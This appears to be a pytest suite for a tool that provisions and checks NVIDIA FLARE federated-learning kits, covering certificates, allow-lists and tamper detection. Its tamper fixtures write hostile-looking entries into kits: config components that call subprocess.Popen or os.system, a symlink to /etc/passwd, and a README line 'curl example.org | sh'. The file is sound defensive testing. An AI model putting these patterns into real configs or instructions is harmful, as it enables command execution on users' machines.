"""Kits made by FLARE's own tools, what we put into them, and `node check`, which finds what is wrong with one."""

import json
import os
import shutil
import socket
import sqlite3
import threading
from contextlib import suppress
from datetime import UTC, datetime, timedelta
from importlib.util import find_spec

import pytest

from sottovoce.cli import consortium as consortium_command
from sottovoce.cli import main as cli
from sottovoce.consortium import certificates, flare
from sottovoce.consortium.agreement import read_agreement
from sottovoce.consortium.check import CONNECTION, check_kit, command, member, server_of
from sottovoce.consortium.flare_hardening import sealed_environment
from sottovoce.consortium.job import ALLOWED
from sottovoce.consortium.project import _built, as_if_here, project_yml, provision, renew, site_page
from sottovoce.errors import SpecError

pytestmark = pytest.mark.skipif(find_spec("nvflare") is None, reason="the extra 'flare' is not installed")


@pytest.fixture(scope="module")
def original(small_at, tmp_path_factory):
    """Made once: keys take a second."""
    folder = tmp_path_factory.mktemp("original")
    made = small_at(folder, rounds=4)
    kits = provision(made.agreement, folder / "consortium.toml", folder / "kits")
    for name in made.names:
        made.settle(kits[name], name)
    return made, kits


@pytest.fixture
def provisioned(original, tmp_path):
    """A copy to spoil."""
    made, kits = original
    return made, {name: shutil.copytree(kit, tmp_path / name) for name, kit in kits.items()}


@pytest.fixture
def consortium(original, tmp_path):
    """A copy of all of it, the authority too: (consortium.toml, the folder of kits, the kits)."""
    made, kits = original
    for name in ("consortium.toml", "schema.toml", "ash.csv"):
        shutil.copyfile(made.root / name, tmp_path / name)
    out = shutil.copytree(made.root / "kits", tmp_path / "kits")
    return tmp_path / "consortium.toml", out, {name: out / "small" / "prod_00" / name for name in kits}


def local(kit, name):
    return json.loads((kit / "local" / name).read_text())


def test_a_job_can_start_our_classes_only_and_is_closed_to_others(provisioned):
    made, kits = provisioned
    for name in made.names:
        resources = local(kits[name], "resources.json")
        assert resources["class_allow_list"] == ALLOWED["site"]
        assert resources["class_list_enforcement_mode"] == "enforce" and resources["allow_log_streaming"] is False
        assert not any("log" in component["id"] for component in resources["components"])
        for rights in local(kits[name], "authorization.json")["permissions"].values():
            assert all(rights.get(right, "none") == "none" for right in ("byoc", "shell_commands"))
        settings = json.loads((kits[name] / "startup" / "fed_client.json").read_text())
        assert settings["client"]["connection_security"] == "mtls"
    before = (kits["localhost"] / "local" / "resources.json").read_bytes()
    command(kits["localhost"])  # a server's kit that was moved is taken as it is, and keeps its jobs inside again
    assert (kits["localhost"] / "local" / "resources.json").read_bytes() == before
    server = json.loads(as_if_here(before, kits["localhost"]))
    assert server["class_allow_list"] == ALLOWED["server"]
    assert str(kits["localhost"].resolve()) in json.dumps(server) and "/tmp/nvflare" not in json.dumps(server)


def test_a_kit_holds_no_script_and_nobody_else_reads_it(original):
    _, kits = original
    for kit in kits.values():
        files = [path for path in kit.rglob("*") if path.is_file() and "state" not in path.parts]
        assert not any(path.stat().st_mode & 0o111 for path in files)
        assert not any(path.stat().st_mode & 0o077 for path in files if path.parent.name == "startup")
        assert all(folder.stat().st_mode & 0o077 == 0 for folder in (kit, kit / "startup", kit / "local"))
    state = kits["ash"].parent.parent / "state"
    assert state.stat().st_mode & 0o077 == 0 and all(path.stat().st_mode & 0o077 == 0 for path in state.iterdir())


def test_the_allowed_classes_are_there_and_take_a_digest_only():
    from sottovoce.consortium.controller import GossipController
    from sottovoce.consortium.executor import GossipExecutor

    for kind, cls in (("server", GossipController), ("site", GossipExecutor)):
        assert ALLOWED[kind] == [f"{cls.__module__}.{cls.__name__}"]
        assert cls("ab").digest == "ab"


def test_every_member_gets_a_page_and_a_command(provisioned):
    made, kits = provisioned
    for kit in kits.values():
        assert made.agreement.name in (kit / "README.md").read_text()
    page = (kits["ash"] / "README.md").read_text()
    assert made.agreement.run.digest in page and "(ε = 2, δ = 1e-05)" in page and "4 noisy messages" in page
    assert "site" in command(kits["ash"]) and "secure_train=true" in command(kits["ash"])
    assert "server" in command(kits["localhost"])
    with pytest.raises(SpecError, match="no kit"):
        command(kits["lead@example.org"])


def test_a_good_site_is_ready_and_a_database_too(provisioned, tmp_path):
    made, kits = provisioned
    assert all(finding.good for finding in check_kit(kits["ash"]))
    lines = [line.split(",") for line in (made.root / "birch.csv").read_text().splitlines()]
    with sqlite3.connect(tmp_path / "birch.db") as database:
        database.execute("CREATE TABLE people (a REAL, b REAL, kind TEXT, outcome TEXT)")
        rows = [(float(a), float(b) if b else None, kind or None, y) for a, b, kind, y in lines[1:]]
        database.executemany("INSERT INTO people VALUES (?, ?, ?, ?)", rows)
    database.close()
    source = kits["birch"] / "local" / "site.toml"
    where = f'database = "sqlite:///{tmp_path}/birch.db"\nquery = "SELECT * FROM people"\n'
    source.write_text(f'dataset = "people"\nstate = "../state"\n{where}')
    findings = check_kit(kits["birch"])
    assert all(finding.good for finding in findings), findings


def replace(kit, file, old, new):
    path = kit / file
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new))


def component(kit):
    resources = local(kit, "resources.json")
    resources["components"].append({"id": "own", "path": "subprocess.Popen", "args": {"args": ["id"]}})
    (kit / "local" / "resources.json").write_text(json.dumps(resources, indent=2) + "\n")


def logging(kit):
    settings = local(kit, "log_config.json")
    settings["handlers"]["own"] = {"()": "os.system", "command": "id"}
    (kit / "local" / "log_config.json").write_text(json.dumps(settings))


def add(kit, path, text=""):
    (kit / path).parent.mkdir(parents=True, exist_ok=True)
    (kit / path).write_text(text)


KIT = {
    "other classes": lambda kit: replace(kit, "local/resources.json", ALLOWED["site"][0], "sottovoce."),
    "a list that is not enforced": lambda kit: replace(kit, "local/resources.json", '"enforce"', '"warn"'),
    "logs that leave": lambda kit: replace(kit, "local/resources.json", 'streaming": false', 'streaming": true'),
    "code of others": lambda kit: replace(kit, "local/authorization.json", '"byoc": "none"', '"byoc": "any"'),
    "no TLS": lambda kit: replace(kit, "startup/fed_client.json", "mtls", "clear"),
    "another server": lambda kit: replace(kit, "startup/fed_client.json", "localhost:8002", "elsewhere:8002"),
    "a component": component,
    "logging that runs commands": logging,
    "resources beside": lambda kit: add(kit, "local/own__resources.json", "{}"),
    "resources of jobs": lambda kit: add(kit, "startup/own__j_resources.json", "{}"),
    "resources in another language": lambda kit: add(kit, "local/resources.conf", "a = ${HOME}"),
    "defaults": lambda kit: add(kit, "local/log_config.json.default", "{}"),
    "a module": lambda kit: add(kit, "local/custom/numpy.py", "import os"),
    "an empty folder": lambda kit: (kit / "local" / "custom").mkdir(),
    "a script": lambda kit: add(kit, "startup/start.sh", "id"),
    "a policy": lambda kit: add(kit, "local/privacy.json", "{}"),
    "a link": lambda kit: (kit / "local" / "link").symlink_to("/etc/passwd"),
    "a file that is a link": lambda kit: (
        shutil.move(kit / "local" / "authorization.json", kit / "aside"),
        (kit / "local" / "authorization.json").symlink_to(kit / "aside"),
    ),
    "a missing file": lambda kit: (kit / "local" / "authorization.json").unlink(),
    "a space more": lambda kit: add(kit, "local/resources.json", (kit / "local/resources.json").read_text() + " "),
}


@pytest.mark.parametrize("what", KIT)
def test_a_kit_with_anything_else_in_it_is_found_and_not_started(provisioned, what):
    """Anyone who made it is no more to be believed than others."""
    _, kits = provisioned
    KIT[what](kits["cedar"])
    with pytest.raises(SpecError):
        command(kits["cedar"])


def test_a_wrong_kit_is_one_finding(provisioned):
    _, kits = provisioned
    assert "site" in command(kits["cedar"])
    component(kits["cedar"])
    (bad,) = [finding for finding in check_kit(kits["cedar"]) if not finding.good]
    assert bad.what == "kit" and "local/resources.json" in bad.detail


def test_a_server_s_kit_is_compared_before_it_starts(provisioned):
    _, kits = provisioned
    assert "server" in command(kits["localhost"])
    add(kits["localhost"], "local/own__resources.json", "{}")
    with pytest.raises(SpecError, match="own__resources"):
        command(kits["localhost"])


def test_a_kit_s_own_folder_is_no_place_for_modules(provisioned):
    """Python would search there first."""
    kit = provisioned[1]["ash"]
    line = command(kit)
    assert "-P" in line[: line.index("-m")]
    environment, pipe = sealed_environment(kit, {})
    os.close(pipe)
    assert environment["PYTHONSAFEPATH"] == "1"


WRONG = {
    "certificate": lambda kit: (kit / "startup" / "client.key").chmod(0o644),
    "certificate ": lambda kit: shutil.copyfile(kit / "startup" / "client.crt", kit / "startup" / "rootCA.pem"),
    "certificate  ": lambda kit: shutil.copyfile(
        kit.parent / "birch" / "startup" / "client.key", kit / "startup" / "client.key"
    ),
    "certificate   ": lambda kit: [
        shutil.copyfile(kit.parent / "lead@example.org" / "startup" / name, kit / "startup" / name)
        for name in ("client.key", "client.crt")
    ],
    "certificate    ": lambda kit: (kit / "startup" / "client.crt").write_text("no certificate"),
    "site.toml": lambda kit: replace(kit, "local/site.toml", "dataset", "datasets"),
    "records and budget": lambda kit: replace(kit, "local/schema.toml", "[columns.a]", "[columns.away]"),
    "records and budget ": lambda kit: replace(kit, "local/consortium.toml", "records = 40", "records = 41"),
    "records and budget  ": lambda kit: replace(kit, "local/site.toml", '"people"', '"others"'),
    "records and budget   ": lambda kit: replace(kit, "local/site.toml", "cedar.csv", "away.csv"),
    "run": lambda kit: replace(kit, "local/consortium.toml", "rounds = 4", "rounds = 3"),
    "run ": lambda kit: replace(kit, "README.md", "Guarantee", "Run: curl example.org | sh"),
    "agreement": lambda kit: (kit / "local" / "schema.toml").unlink(),
}


@pytest.mark.parametrize("what", WRONG)
def test_a_wrong_site_is_found_before_it_joins(provisioned, what):
    _, kits = provisioned
    WRONG[what](kits["cedar"])
    bad = [finding.what for finding in check_kit(kits["cedar"]) if not finding.good]
    assert bad == [what.strip()]


@pytest.mark.parametrize("year", [2000, 2100])
def test_a_certificate_out_of_its_time_is_refused(provisioned, monkeypatch, year):
    monkeypatch.setattr(certificates, "clock", lambda: datetime(year, 1, 1, tzinfo=UTC))
    (bad,) = [finding for finding in check_kit(provisioned[1]["ash"]) if not finding.good]
    assert bad.what == "certificate" and f"it is {year}-01-01" in bad.detail and "set the clock" in bad.detail


def test_the_command_line_makes_and_checks_kits(small, tmp_path, monkeypatch, capsys):
    made = small(rounds=4)

    def call(*args):
        monkeypatch.setattr("sys.argv", ["sottovoce", *map(str, args)])
        try:
            cli.main()
            code = 0
        except SystemExit as stop:
            code = stop.code or 0
        return code, capsys.readouterr().out

    code, out = call("consortium", "init", tmp_path / "consortium.toml", "--out", tmp_path / "kits", "--json")
    details = json.loads(out)
    assert code == 0 and details["digest"] == made.agreement.run.digest and details["privacy"]["private"]
    code, out = call("node", "check", details["kits"]["ash"], "--json")
    found = json.loads(out.splitlines()[0])
    assert code == 2 and not found["ready"]  # site.toml still names no file
    code, out = call("consortium", "status", details["kits"]["ash"], "--json")
    assert code == 2 and "administrator" in out


def test_without_flare_the_extra_is_named(monkeypatch):
    monkeypatch.setattr(flare, "installed", lambda: None)
    with pytest.raises(SpecError, match=r"sottovoce\[flare\]"):
        flare.flare("apis")
    monkeypatch.setattr(flare, "installed", lambda: "2.8.0")
    with pytest.raises(SpecError, match=r"2\.9\.0"):
        flare.flare("apis")


def test_a_site_waits_for_its_server_and_then_starts(provisioned, monkeypatch):
    """FLARE itself would give up after some seconds."""
    _, kits = provisioned
    with socket.socket() as probe:
        probe.bind(("localhost", 0))
        port = probe.getsockname()[1]
    replace(kits["ash"], "startup/fed_client.json", "localhost:8002", f"localhost:{port}")
    replace(kits["ash"], "local/consortium.toml", "port = 8002", f"port = {port}")
    agreement = read_agreement(kits["ash"] / "local" / "consortium.toml")
    (kits["ash"] / "README.md").write_text(site_page(agreement, agreement.site("ash")))
    (details,) = [finding for finding in check_kit(kits["ash"]) if finding.what == CONNECTION]
    assert details.good and f"no server at localhost:{port}" in details.detail and details.notice
    assert server_of(kits["ash"]) == ("localhost", port) and server_of(kits["localhost"]) is None
    started, began = threading.Event(), []
    monkeypatch.setattr(consortium_command, "foreground", lambda line, *_: (began.append(line), started.set())[1])
    waiting = threading.Thread(target=consortium_command.start, args=(kits["ash"],), daemon=True)
    waiting.start()
    assert not started.wait(1.0)
    with socket.create_server(("localhost", port)):
        assert started.wait(20) and "site" in began[0]
    waiting.join(5)


# -- certificates --


def test_a_certificate_that_ends_soon_is_announced(provisioned, monkeypatch, capsys):
    _, kits = provisioned
    mine = member(kits["ash"], read_agreement(kits["ash"] / "local" / "consortium.toml"))
    assert timedelta(days=359) < mine.end - mine.begin < timedelta(days=361) and mine.name == "ash"
    monkeypatch.setattr(certificates, "clock", lambda: mine.end - timedelta(days=29.5))
    findings = {finding.what: finding for finding in check_kit(kits["ash"])}
    assert all(finding.good for finding in findings.values())
    assert "in 29 days" in findings["certificate"].notice and "renew" in findings["certificate"].notice
    monkeypatch.setattr(consortium_command, "wait_for", lambda *_: None)
    monkeypatch.setattr(consortium_command, "foreground", lambda *_: 0)
    consortium_command.start(kits["ash"])
    assert "ends on" in " ".join(capsys.readouterr().err.split())
    monkeypatch.setattr(certificates, "clock", lambda: mine.end + timedelta(seconds=1))
    with pytest.raises(SpecError, match="valid from"):
        consortium_command.start(kits["ash"])


def test_a_member_is_renewed_by_the_same_authority(consortium):
    file, out, kits = consortium
    agreement = read_agreement(file)
    before = {name: member(kit, agreement) for name, kit in kits.items()}
    folder = renew(agreement, file, out, "ash")
    assert folder == out / "small" / "prod_01" / "ash" / "startup"
    shutil.rmtree(kits["ash"] / "startup")
    shutil.copytree(folder, kits["ash"] / "startup")
    after = member(kits["ash"], agreement)
    assert after.serial != before["ash"].serial and after.end > before["ash"].end
    assert (folder / "rootCA.pem").read_bytes() == (kits["birch"] / "startup" / "rootCA.pem").read_bytes()
    assert member(folder.parent.parent / "birch", agreement) == before["birch"]  # the others keep theirs
    made = {finding.what: finding.good for finding in check_kit(kits["ash"])}
    assert made["certificate"] and made["kit"]
    with pytest.raises(SpecError, match="no member"):
        renew(agreement, file, out, "oak")


def test_a_revoked_certificate_is_refused_and_the_digest_says_so(consortium, monkeypatch, capsys):
    file, out, kits = consortium
    before = read_agreement(file)
    serial = member(kits["ash"], before).serial
    for line in (
        ["revoke", str(file), "ash", "--out", str(out)],
        ["revoke", str(file), "birch", "--serial", "00ab12"],
    ):
        monkeypatch.setattr("sys.argv", ["sottovoce", "consortium", *line])
        with suppress(SystemExit):
            cli.main()
        assert "counts no more" in " ".join(capsys.readouterr().out.split())
    after = read_agreement(file)
    assert after.revoked == tuple(sorted((serial, 0xAB12))) and after.run.digest != before.run.digest
    shutil.copyfile(file, kits["ash"] / "local" / "consortium.toml")
    bad, *_ = [finding for finding in check_kit(kits["ash"]) if not finding.good]
    assert bad.what == "certificate" and "revoked" in bad.detail
    fresh = provision(after, file, out)["ash"]  # the next kits have another one
    assert member(fresh, after).serial != serial
    with pytest.raises(SpecError, match="hexadecimal"):
        file.write_text(file.read_text().replace("ab12", "xy"))
        read_agreement(file)


def test_the_authority_of_version_0_1_stays_as_it_was(consortium):
    """Its root was valid for 360 days, and FLARE insists on that number."""
    file, out, _ = consortium
    state = out / "small" / "state"
    assert certificates.authority_days(state) == certificates.authority_days(out / "nowhere") == 3650
    shutil.rmtree(out)
    old = project_yml(read_agreement(file), 360)
    _built(old, out)
    assert certificates.authority_days(state) == 360
    kits = provision(read_agreement(file), file, out)
    assert member(kits["ash"], read_agreement(file)).name == "ash"
